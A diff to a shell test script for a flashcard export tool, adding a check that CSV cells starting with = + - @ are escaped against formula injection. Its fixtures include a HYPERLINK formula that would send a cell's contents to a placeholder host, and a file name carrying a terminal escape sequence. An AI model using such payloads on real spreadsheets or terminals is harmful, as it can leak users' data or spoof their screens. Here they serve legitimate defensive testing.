@@ -58,6 +58,22 @@ check "--output refuses to overwrite without --force" \
   test "$status:$out:$(cat "$work/existing.tsv")" = "2:awsml-tui: error: $work/existing.tsv: already exists; add --force to overwrite it:keep me"
 check "--force overwrites" bash -c "'$binary' export --format anki --output '$work/existing.tsv' --force && head -1 '$work/existing.tsv' | grep -q '#separator:tab'"
 
+# CSV injection (OWASP): a cell a spreadsheet would run as a formula starts
+# with a quote; the text after it is the fact as check --json has it.
+printf '%s\n' '# Formulas' '## Topic' '- =HYPERLINK("http://example.com/?x=" & A1, "click")' '- +1+2 as text' \
+  '- -2 dB per metre' '- @SUM(A1:A9) as text' '- an ordinary fact, = + - @ inside' > "$work/formulas.md"
+"$binary" export --format csv --store "$store" --output "$work/formulas.csv" "$work/formulas.md"
+check "CSV: cells starting with = + - @ get a leading ', ordinary ones are as they are" \
+  python3 - "$work/formulas.csv" "$binary" "$work/formulas.md" <<'PY'
+import csv, json, subprocess, sys
+rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))[1:]
+doc = json.loads(subprocess.check_output([sys.argv[2], "check", "--json", sys.argv[3]]))
+facts = [f["text"] for f in doc["decks"][0]["root"]["children"][0]["children"][0]["facts"]]
+cells = [r[2] for r in rows]
+assert cells[:4] == ["'" + f for f in facts[:4]], cells
+assert cells[4] == facts[4] == "an ordinary fact, = + - @ inside", cells
+PY
+
 # A deck titled by a file name holding ESC, BEL and a newline: the title is
 # exported with U+FFFD for them, in the Anki header and the CSV deck column.
 post="$work/inj"$'\e]0;owned\a\nline.md'
